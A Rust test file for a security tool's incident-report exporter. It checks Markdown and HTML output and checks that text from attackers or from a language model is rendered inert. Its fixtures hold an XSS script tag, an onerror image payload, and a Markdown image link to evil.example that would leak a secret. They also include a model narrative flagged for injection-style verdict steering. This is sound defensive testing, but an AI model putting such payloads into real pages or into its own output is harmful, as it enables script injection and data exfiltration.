//! The incident report: every phase's section, values escaped in HTML (alert text is attacker
//! controlled), recommendations that follow from the record.

use picket_core::Incident;
use picket_export::report::{ActionLine, Narrative, ReportInput, html, markdown};

fn incident(title: &str) -> Incident {
    serde_json::from_value(serde_json::json!({
        "id": "inc_1", "title": title, "status": "open", "verdict": "malicious", "priority": "P1",
        "confidence": 0.9, "confidence_note": "C2 to a known server", "escalation": "on_call",
        "first_seen": "2026-11-20T10:00:00Z", "last_seen": "2026-11-20T10:05:00Z", "alert_count": 2,
        "alerts": [{"id": "al_1", "format": "suricata", "raw_sha256": "00", "count": 2}],
        "scope": {"hosts": ["web01"], "users": [], "ips": ["45.33.32.156"]},
        "observables": [{"type": "ipv4", "value": "45.33.32.156", "benign_lists": []}],
        "attack": [{"technique": "T1071.001", "tactic": "command-and-control", "name": "Application Layer Protocol: Web Protocols"}],
        "timeline": [{"time": "2026-11-20T10:00:00Z", "alert": "al_1", "summary": "beacon | every 60 s", "count": 2}],
        "evidence": [{"claim": "ET signature for Cobalt Strike", "source": "alert:al_1:rule", "weight": 0.4}],
    }))
    .unwrap()
}

#[test]
fn markdown_has_every_phase_and_recommends_from_the_record() {
    let inc = incident("Beacon on web01");
    let r = ReportInput {
        incident: &inc,
        actions: vec![ActionLine {
            id: "act_1".into(),
            action: "isolate_host".into(),
            target: "web01".into(),
            state: "awaiting_approval".into(),
            proposer: "playbook:c2-beaconing".into(),
            result: None,
        }],
        lifecycle: vec![(
            "detected".into(),
            "2026-11-20T10:00:00Z".into(),
            "source:suricata".into(),
        )],
        verdicts: vec![],
        narrative: None,
    };
    let md = markdown(&r);
    for section in [
        "# Incident report: Beacon on web01",
        "## Summary",
        "## Scope",
        "## Timeline",
        "## ATT&CK mapping",
        "## Evidence",
        "## Indicators",
        "## Actions taken",
        "## Recommendations",
    ] {
        assert!(md.contains(section), "{section} missing:\n{md}");
    }
    assert!(
        md.contains("| T1071.001 |") || md.contains("T1071.001"),
        "{md}"
    );
    assert!(
        md.contains("beacon \\| every 60 s"),
        "table cells escape pipes:\n{md}"
    );
    assert!(md.contains("Decide on the pending action act_1"), "{md}");
    assert!(md.contains("no containment has succeeded yet"), "{md}");
    assert!(md.contains("On-call should acknowledge"), "{md}");
}

#[test]
fn html_escapes_attacker_controlled_text() {
    let inc = incident("<script>alert(1)</script> & \"quotes\"");
    let r = ReportInput {
        incident: &inc,
        actions: vec![],
        lifecycle: vec![],
        verdicts: vec![],
        narrative: None,
    };
    let page = html(&r);
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(!page.contains("<script>"), "{page}");
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot;"));
    assert!(
        page.contains("<h2>Evidence</h2>")
            && page.contains("<td>ET signature for Cobalt Strike</td>")
    );
    // Well-formed enough for an XML parser once the doctype is dropped.
    let xml = page.trim_start_matches("<!DOCTYPE html>\n");
    let ok = std::process::Command::new("python3")
        .args([
            "-c",
            "import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.argv[1])",
        ])
        .arg(xml)
        .status()
        .unwrap()
        .success();
    assert!(ok, "HTML is not well-formed:\n{page}");
}

#[test]
fn a_model_narrative_goes_beside_the_record_and_its_text_is_inert() {
    let inc = incident("Beacon on web01");
    let evil = "see ![x](https://evil.example/leak?d=secret) <img src=x onerror=alert(1)> **now**";
    let r = ReportInput {
        incident: &inc,
        actions: vec![],
        lifecycle: vec![],
        verdicts: vec![],
        narrative: Some(Narrative {
            provider: "claude".into(),
            mode: "pipeline".into(),
            status: "completed".into(),
            findings: vec![(evil.into(), vec!["alert:al_1".into()])],
            timeline: vec![(
                "2026-11-20T10:00:00Z".into(),
                "first beacon".into(),
                vec!["alert:al_1".into()],
            )],
            verdict: Some(("benign".into(), 0.9)),
            rationale: vec![],
            actions: vec![("isolate_host".into(), "web01".into(), "contain".into())],
            confidence_note: Some("one sensor".into()),
            standing: "needs_review".into(),
            review_reason: Some("the model's verdict is lower than the engine's".into()),
            injection: vec!["verdict_steering".into()],
        }),
    };
    let md = markdown(&r);
    let (record, model) = md
        .split_once("## Model narrative")
        .expect("a narrative section");
    assert!(
        record.contains("## Recommendations"),
        "the record comes first"
    );
    assert!(
        model.contains("Model verdict: **benign**")
            && model.contains("standing verdict: **needs_review**")
    );
    assert!(model.contains("Injection-like content"));
    // No live link, image or HTML from the model's text.
    assert!(!model.contains("![x](https://"), "{model}");
    assert!(
        model.contains("\\!\\[x\\]\\(https://evil.example/leak?d=secret\\)"),
        "{model}"
    );
    assert!(!model.contains("<img"), "{model}");
    assert!(model.contains("&lt;img src=x"), "{model}");
    assert!(model.contains("cites alert:al\\_1"), "{model}");
    assert!(model.contains("Proposed isolate\\_host on web01"));
    let page = html(&r);
    assert!(!page.contains("<img"), "{page}");
    assert!(
        page.contains("&lt;img src=x onerror=alert(1)&gt; **now**"),
        "{page}"
    );
    assert!(page.contains("<h2>Model narrative</h2>"));
}
